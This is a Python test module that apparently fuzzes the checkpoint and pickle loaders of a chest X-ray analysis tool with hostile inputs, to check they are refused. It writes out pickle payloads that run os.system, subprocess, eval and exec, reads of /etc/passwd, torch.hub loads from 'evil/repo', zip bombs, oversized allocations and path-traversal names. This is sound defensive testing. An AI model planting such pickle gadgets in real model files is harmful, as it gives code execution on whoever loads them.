"""Networks and saliency pickles that run something, reach for something, or ask for more than they hold."""

import argparse
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

import numpy as np
import torch

from tests.hostile.cases import EITHER, REFUSED, SAFE, SAME, Case
from tests.hostile.sandbox import put
from tests.hostile.world import IDS, replaced_pickle

# Kind, command that reads it, file, and where its spec stands.
NETWORKS = (
    ("classifier", "classify", "classifier.ckpt", "spec"),
    ("segmentation network", "predict", "segmentation.pth", "spec"),
    ("boundary network", "pseudo", "boundary.pth", "boundary_spec"),
)
PICKLE = f"pickles/{IDS[0]}_Edema_map.pkl"


class Call:
    """Pickles as a call of `function`."""

    def __init__(self, function, *args):
        self.call = function, args

    def __reduce__(self):
        return self.call


def calls() -> dict[str, Any]:
    """What must never be called on loading."""
    program = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 1)), program)
    return {
        "os.system": Call(os.system, "touch ../ran"),
        "subprocess": Call(subprocess.check_call, ["touch", "../ran"]),
        "eval": Call(eval, "__import__('os').system('touch ../ran')"),
        "exec": Call(exec, "open('../ran', 'w')"),
        "open": Call(open, "../ran", "w"),
        "import": Call(__import__, "antigravity"),
        "bytearray": Call(bytearray, 10**11),
        "torch.empty": Call(torch.empty, 10**11),
        "torch.load": Call(torch.load, "/etc/passwd"),
        "torch.hub": Call(torch.hub.load, "evil/repo", "model"),
        "torch.hub url": Call(torch.hub.load_state_dict_from_url, "http://localhost:9/x.pth"),
        "torch.jit": Call(torch.jit.load, "/etc/passwd"),
        "a program as tensor": Call(torch.storage._load_from_bytes, program.getvalue()),
        "a pickle as tensor": Call(torch.storage._load_from_bytes, pickle.dumps(Call(os.system, "touch ../ran"))),
        "np.ndarray": Call(np.ndarray, (2,), np.dtype("f4"), b"12345678"),
        "np.load": Call(np.load, "/etc/passwd", None, True),
        "np.fromfile": Call(np.fromfile, "/etc/passwd", np.uint8),
        "np.objects": np.array([{"a": 1}], object),
        "sys.exit": Call(sys.exit, 0),
        "path": Call(Path.write_text, Path("../ran"), "x"),
        "urlopen": Call(__import__("urllib.request").request.urlopen, "http://localhost:9/"),
    }


def saved(content: Any, new: bool = True) -> bytes:
    file = io.BytesIO()
    torch.save(content, file, _use_new_zipfile_serialization=new)
    return file.getvalue()


def stored(content: Any, new: bool = True) -> Callable[[Path], None]:
    """The same, written when its turn comes."""
    return lambda path: put(path, saved(content, new))


def loaded(path: Path) -> dict:
    return torch.load(path, weights_only=True)


def networks(world: Path) -> Iterator[Case]:
    for kind, command, file, spec in NETWORKS:
        good, content = (world / file).read_bytes(), loaded(world / file)
        for name, change, verdict in (*containers(good, content), *_contents(content), *_specs(kind, content, spec)):
            yield Case(kind, name, command, file, change, verdict)


def containers(good: bytes, content: dict) -> Iterator[tuple[str, Any, str]]:
    """Other files around the content of a checkpoint, or calls in it."""
    legacy = saved(content, new=False)
    yield "in the older format", legacy, SAME
    for name, data in (("zip", good), ("older", legacy)):
        for share in (0.0, 0.01, 0.5, 0.99, 0.9999):
            yield f"{name} cut at {share}", data[: int(share * len(data))], REFUSED
    for share in (0.1, 0.3, 0.5, 0.7, 0.9, 0.995):
        changed = bytearray(good)
        changed[int(share * len(good))] ^= 0x55
        yield f"a byte changed at {share}", bytes(changed), EITHER
    yield "two archives", good + saved({"a": Call(os.system, "touch ../ran")}), REFUSED
    yield "something before", b"x" * 512 + good, REFUSED
    yield "something behind", good + b"x", REFUSED
    yield "compressed", partial(_rezipped, good, zipfile.ZIP_DEFLATED, 1), REFUSED
    yield "entries twice", partial(_rezipped, good, zipfile.ZIP_STORED, 2), REFUSED
    yield "a bomb", _bomb(), REFUSED
    one = {"conv1.weight": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
    for name, head, data in (
        ("of another network", one, bytes(4)), ("cut", one, bytes(3)), ("too long", one, bytes(9)), ("no JSON", b"{[", b""),
        ("huge shape", {"a": {"dtype": "F32", "shape": [10**12], "data_offsets": [0, 4]}}, bytes(4)), ("a list", b"{} []", b""),
        ("overlapping", one | {"b": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, bytes(4)), ("empty", {}, b""),
        ("negative", {"a": {"dtype": "F32", "shape": [1], "data_offsets": [-4, 0]}}, bytes(4)), ("deep", b'{"a":' * 90_000, b""),
        ("an unknown kind", {"a": {"dtype": "X9", "shape": [1], "data_offsets": [0, 4]}}, bytes(4)),
        ("kinds of 4 bits", {"a": {"dtype": "F4", "shape": [8], "data_offsets": [0, 4]}}, bytes(4)),
    ):  # fmt: skip
        yield f"safetensors, {name}", safetensors(head, data), REFUSED
    yield "safetensors, a head of 2^60", struct.pack("<Q", 2**60) + b"{}", REFUSED
    program = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 1)), program)
    yield "TorchScript", program.getvalue(), REFUSED
    yield "a plain pickle", pickle.dumps({"state_dict": {}}), REFUSED
    yield "a text", "weights", REFUSED
    yield "a picture", b"\x89PNG\r\n\x1a\n" + bytes(100), REFUSED
    yield "HDF5", b"\x89HDF\r\n\x1a\n" + bytes(2000), REFUSED
    for name, call in calls().items():
        for new in (True, False):
            change = stored(content | {"extra": call}, new)
            # What is neither run nor named as refused becomes a record that does nothing.
            yield f"{name}{'' if new else ', older format'}", change, EITHER
    yield "a namespace", stored(content | {"args": argparse.Namespace(a=Call(os.system, "touch ../ran"))}), EITHER


def safetensors(head: dict | bytes, data: bytes) -> bytes:
    text = head if isinstance(head, bytes) else json.dumps(head).encode()
    return struct.pack("<Q", len(text)) + text + data


def _rezipped(good: bytes, how: int, times: int, path: Path) -> None:
    import warnings

    put(path, "")
    with zipfile.ZipFile(io.BytesIO(good)) as old, zipfile.ZipFile(path, "w", how) as new, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for entry in old.infolist():
            for _ in range(times):
                new.writestr(entry.filename, old.read(entry))


def _bomb() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a/data.pkl", b"\x80\x02}.")
        archive.writestr("a/data/0", bytes(1 << 28))
    return file.getvalue()


def _contents(content: dict) -> Iterator[tuple[str, Any, str]]:
    weights = content["state_dict"]
    first = next(iter(weights))
    yield "a list", stored([weights]), REFUSED
    yield "empty", stored({}), REFUSED
    yield "no weights", stored(content | {"state_dict": {}}), REFUSED
    yield "weights as list", stored(content | {"state_dict": list(weights.values())}), REFUSED
    yield (
        "a tensor missing",
        stored(content | {"state_dict": {k: v for k, v in weights.items() if k != first}}),
        REFUSED,
    )
    yield "a tensor more", stored(content | {"state_dict": dict(weights) | {"evil": torch.ones(2)}}), REFUSED
    yield "another shape", stored(content | {"state_dict": dict(weights) | {first: torch.ones(2, 2)}}), REFUSED
    yield (
        "a number repeated",
        stored(content | {"state_dict": dict(weights) | {first: torch.zeros(1).expand(10**11)}}),
        REFUSED,
    )
    yield "texts for tensors", stored(content | {"state_dict": dict.fromkeys(weights, "x")}), REFUSED
    sparse = torch.sparse_coo_tensor(torch.tensor([[0], [0]]), torch.ones(1), (10**6, 10**6))
    yield "a sparse tensor", stored(content | {"state_dict": dict(weights) | {first: sparse}}), REFUSED
    yield "a meta tensor", stored(content | {"more": torch.empty(10**6, 10**6, device="meta")}), REFUSED
    quantised = torch.quantize_per_tensor(torch.ones(4), 0.1, 0, torch.qint8)
    yield "a quantised tensor", stored(content | {"more": quantised}), REFUSED
    deep: Any = []
    for _ in range(250):
        deep = [deep]
    yield "deep lists", stored(content | {"more": deep}), REFUSED


def _specs(kind: str, content: dict, key: str) -> Iterator[tuple[str, Any, str]]:
    def changed(**values):
        return stored(content | {key: dict(content[key]) | values})

    yield "no spec", stored({k: v for k, v in content.items() if k != key}), SAFE if kind == "classifier" else REFUSED
    yield "spec a list", stored(content | {key: [1]}), SAFE if kind == "classifier" else REFUSED
    yield "an unknown field", changed(evil=1), REFUSED
    yield "a field of bytes", stored(content | {key: dict(content[key]) | {b"x": 1}}), REFUSED
    for field in content[key]:
        for value in (None, -1, 10**30, float("nan"), [1], {"a": 1}, "", "\x1b[31m", b"x", torch.ones(2)):
            if not (value is None and field == "decoder_channels"):
                yield f"{field} = {str(value)[:12]!r}", changed(**{field: value}), REFUSED
        yield f"{field} missing", stored(content | {key: {k: v for k, v in content[key].items() if k != field}}), SAFE
    for name in ("tu-hf-hub:evil/model", "tu-local-dir:/etc", "tu-hf_hub:timm/resnet18", "http://localhost:9/x", "../../x",
                 "tu-resnet18/../x", "timm-hf-hub:x/y", "/etc/passwd", "tu-vit_giant_patch14_dinov2", "mit_b5", "resnet152",
                 "tu-nothing", "a" * 10_000, "tu-", "resnet18\0"):  # fmt: skip
        field = "encoder" if "encoder" in content[key] else "architecture"
        yield f"{field} {name[:30]!r}", changed(**{field: name}), REFUSED
    if "tasks" in content[key]:
        for name, tasks in {
            "a separator": ("Ede/ma", "b"), "the parent": ("..", "b"), "an escape": ("\x1b[2J", "b"), "twice": ("a", "a"),
            "none": (), "a text": "Edema", "numbers": (1, 2), "a million": ("a",) * 1_000_000, "long": ("E" * 10**6, "b"),
        }.items():  # fmt: skip
            yield f"tasks {name}", changed(tasks=tasks), REFUSED
    if kind == "segmentation network":
        yield "architecture unknown", changed(architecture="Evil"), REFUSED
        yield "architecture UnetPlusPlus", changed(architecture="UnetPlusPlus"), REFUSED
        yield "a huge input", changed(image_size=10**6), REFUSED
        yield "an odd input", changed(image_size=33), REFUSED
        yield "a wide decoder", changed(decoder_channels=4000), REFUSED
        for name, values in {
            "nan": [float("nan")] * 2,
            "three": [0.5] * 3,
            "texts": ["a", "b"],
            "a tensor": torch.ones(2),
        }.items():
            yield f"metrics' thresholds {name}", stored(content | {"metrics": {"thresholds": values}}), REFUSED


def pickles(world: Path) -> Iterator[Case]:
    path = world / PICKLE
    good = path.read_bytes()

    def case(name, change, verdict=REFUSED):
        return Case("saliency pickle", name, "masks_of_pickles", PICKLE, change, verdict)

    for name, call in calls().items():
        for protocol in (2, 5):
            content = pickle.loads(good) | {"map": call}
            yield case(f"{name}, protocol {protocol}", pickle.dumps(content, protocol))
        yield case(f"{name} beside", replaced_pickle(path, more=call))
    for share in (0.0, 0.1, 0.5, 0.9, 0.9999):
        yield case(f"cut at {share}", good[: int(share * len(good))])
    for name, values in {
        "map a number": {"map": 3}, "map of one axis": {"map": torch.ones(4)}, "map of three": {"map": torch.ones(2, 3, 4)},
        "map empty": {"map": torch.ones(1, 1, 0, 4)}, "map of texts": {"map": "map"}, "map complex": {"map": torch.ones(1, 1, 2, 2) * 1j},
        "map of Booleans": {"map": torch.ones(1, 1, 2, 2) > 0}, "map None": {"map": None}, "map huge": {"map": torch.zeros(1).expand(1, 1, 10**5, 10**5)},
        "prob 7": {"prob": 7}, "prob -1": {"prob": -1.0}, "prob a text": {"prob": "x"}, "prob empty": {"prob": []},
        "prob infinite": {"prob": float("inf")}, "dims none": {"cxr_dims": None}, "dims texts": {"cxr_dims": ("a", "b")}, "dims three": {"cxr_dims": (1, 2, 3)},
        "dims zero": {"cxr_dims": (0, 5)}, "dims negative": {"cxr_dims": (-3, -4)}, "dims huge": {"cxr_dims": (10**6, 10**6)},
        "dims beyond 64 bits": {"cxr_dims": (2**70, 1)}, "dims nan": {"cxr_dims": (float("nan"), 5)}, "dims nested": {"cxr_dims": ([1], [2])},
        "dims infinite": {"cxr_dims": (float("inf"), 5.0)}, "dims a part": {"cxr_dims": (5.5, 3)},
    }.items():  # fmt: skip
        yield case(name, replaced_pickle(path, **values))
    for name, values in {
        "map of nan": {"map": torch.full((1, 1, 32, 32), float("nan"))}, "map of inf": {"map": torch.full((1, 1, 32, 32), float("inf"))},
        "map of integers": {"map": torch.ones(1, 1, 32, 32, dtype=torch.int64)}, "map as array": {"map": np.ones((1, 1, 8, 8))},
        "task outside": {"task": "../../x"}, "prob nan": {"prob": float("nan")},
    }.items():  # fmt: skip
        yield case(name, replaced_pickle(path, **values), SAFE)
    yield case("a list", pickle.dumps([1]))
    yield case("a text", "map")
    yield case("many memos", b"\x80\x02Nr\xff\xff\xff\x7f.")
    yield case("a long text", b"\x80\x02X" + struct.pack("<I", 2**31) + b"a.")
    yield case("a very long text", b"\x80\x04\x8d" + struct.pack("<Q", 2**40) + b"a.")
    yield case("a long number", b"\x80\x02\x8b" + struct.pack("<i", 2**30) + b"1.")
    yield case("a frame of terabytes", b"\x80\x04\x95" + struct.pack("<Q", 2**42) + b"N.")
    yield case("a class by number", b"\x80\x02\x82\x01.")
    yield case("data of elsewhere", b"\x80\x02X\x01\x00\x00\x00aQ.")
    yield case("deep lists", b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b".")
    for name in ("../x", ".hidden", "Ede\\ma", "a\x1bb", "", "%2E%2E%2Fx"):
        file = f"pickles/{IDS[0]}_{name.replace('/', '%2F')}_map.pkl"
        yield Case(
            "saliency pickle", f"task {name!r} by its name", "masks_of_pickles", file, partial(put, content=good)
        )
